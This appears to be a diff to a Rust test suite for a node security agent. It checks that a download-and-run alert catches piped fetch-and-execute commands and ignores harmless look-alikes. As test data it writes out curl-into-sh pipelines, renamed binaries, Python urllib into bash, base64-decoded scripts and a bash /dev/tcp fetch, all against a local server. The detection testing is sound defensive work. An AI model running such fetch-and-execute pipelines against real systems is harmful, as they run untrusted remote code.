@@ -159,6 +159,95 @@ fn node_alerts_fire_on_other_syscalls_spellings_and_tools_and_not_on_look_alikes
         }
     }
     assert!(missed.is_empty(), "variants not detected:\n{}", missed.join("\n"));
+
+    // ---- a download piped into whatever runs it, where no command line shows `curl … | sh` (issue 15 item 3):
+    // each from its own URL path, which the alert's download command names.
+    let web = serve_scripts();
+    let url = |path: &str| format!("http://127.0.0.1:{web}/{path}");
+    std::fs::copy("/usr/bin/curl", format!("{d}/bin/fetch")).unwrap();
+    std::fs::copy("/bin/dash", format!("{d}/bin/worker")).unwrap();
+    std::fs::write(format!("{d}/install.sh"), format!("curl -s {} | sh\n", url("script-one"))).unwrap();
+    // Look-alikes: a download piped into a tool that only reads data, an interpreter given its program, and a
+    // command substitution; then a marker, after which none of them may have raised the alert.
+    for script in [
+        format!("curl -s {} | grep -c id", url("quiet-grep")),
+        format!("curl -s {} | python3 -c 'import sys; sys.stdin.read()'", url("quiet-python")),
+        format!("X=$(curl -s {}); echo \"$X\" | wc -l", url("quiet-substitution")),
+        format!("curl -s {} | tar tzf - 2>/dev/null | wc -l", url("quiet-tar")),
+    ] {
+        sh(&script);
+    }
+    let python_fetch = format!(
+        "python3 -c 'import sys, urllib.request; sys.stdout.buffer.write(urllib.request.urlopen(\"{}\").read())' | bash",
+        url("script-python")
+    );
+    let dev_tcp = format!(
+        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{web}; printf \"GET /script-dev-tcp HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3' | sh -s -- dev-tcp-reader"
+    );
+    let pipes: Vec<(&str, String, &str)> = vec![
+        ("curl | sh inside a script", format!("sh {d}/install.sh"), "script-one"),
+        (
+            "renamed curl into a renamed shell",
+            format!("{d}/bin/fetch -s {} | {d}/bin/worker", url("script-renamed")),
+            "script-renamed",
+        ),
+        ("Python's urllib into bash", python_fetch, "script-python"),
+        ("curl | base64 -d | sh", format!("curl -s {} | base64 -d | sh", url("base64-script")), "base64-script"),
+        ("/dev/tcp from bash into sh", dev_tcp, "dev-tcp-reader"),
+    ];
+    let mut missed = Vec::new();
+    for (label, script, marker) in &pipes {
+        sh(script);
+        if wait_for_download_and_run(&alerts_path, marker).is_none() {
+            missed.push(format!("{label}: no K8S.NODE_DownloadAndRunCombo from `{script}`"));
+        }
+    }
+    assert!(missed.is_empty(), "piped downloads not detected:\n{}", missed.join("\n"));
+    let loud: Vec<serde_json::Value> = alerts(&alerts_path)
+        .into_iter()
+        .filter(|alert| alert["alert_type"] == "K8S.NODE_DownloadAndRunCombo" && alert.to_string().contains("quiet-"))
+        .collect();
+    assert!(loud.is_empty(), "look-alike pipes raised: {loud:#?}");
     let _ = std::fs::remove_dir_all("/opt/palisade-evasion");
     drop(run);
+}
+
+/// A loopback HTTP/1.0 server: `/base64-script` answers a base64-wrapped script, any other path `id; uname -a`.
+/// Returns its port.
+fn serve_scripts() -> u16 {
+    use std::io::{BufRead, BufReader, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for stream in listener.incoming().flatten() {
+            let mut request = String::new();
+            let mut reader = BufReader::new(&stream);
+            if reader.read_line(&mut request).is_err() {
+                continue;
+            }
+            let script = "id\nuname -a\n";
+            let body = if request.contains("/base64-script") { "aWQKdW5hbWUgLWEK\n" } else { script };
+            let mut stream = &stream;
+            let _ = write!(stream, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}", body.len());
+        }
+    });
+    port
+}
+
+/// Waits for a K8S.NODE_DownloadAndRunCombo from its windowed half (the one that names the pipe) whose details
+/// name `marker` (the URL path, or the reader's argument).
+fn wait_for_download_and_run(path: &Path, marker: &str) -> Option<serde_json::Value> {
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while Instant::now() < deadline {
+        let found = alerts(path).into_iter().find(|alert| {
+            alert["alert_type"] == "K8S.NODE_DownloadAndRunCombo"
+                && alert["details"]["pipe"].is_string()
+                && alert["details"].to_string().contains(marker)
+        });
+        if found.is_some() {
+            return found;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    None
 }
